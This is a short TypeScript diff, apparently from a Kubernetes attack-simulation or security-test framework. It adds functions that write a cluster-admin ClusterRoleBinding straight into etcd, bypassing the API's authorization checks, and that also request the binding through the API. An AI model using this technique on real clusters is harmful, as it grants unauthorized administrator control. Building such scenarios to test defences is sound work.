@@ -1,4 +1,5 @@
 /** A right that an attacker grants itself where no authorizer looks: straight in the store. */
+import type { Loot, World } from '../attacker/world.ts'
 import type { Operator } from '../cluster/operator.ts'
 import type { Staged } from './scenario.ts'
 
@@ -13,6 +14,20 @@ export function clusterAdminBinding(mark: string): { key: string; value: string;
     roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
   }
   return { key: `/registry/clusterrolebindings/${name}`, value: JSON.stringify(binding), object: binding }
+}
+
+/** Writes the binding into the store, past everything that would ask whether it may. */
+export async function putClusterAdminBinding(world: World): Promise<Loot> {
+  const { key, value } = clusterAdminBinding(world.mark)
+  const etcd = await world.etcd(world.network.etcd[0] ?? '')
+  await etcd.put(key, value)
+  return []
+}
+
+/** Asks the API for the binding. */
+export async function postClusterAdminBinding(world: World): Promise<Loot> {
+  const path = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings'
+  return [(await world.api({ method: 'POST', path, body: clusterAdminBinding(world.mark).object })).body]
 }
 
 /** Whether the API serves the binding as an administrator sees it. */
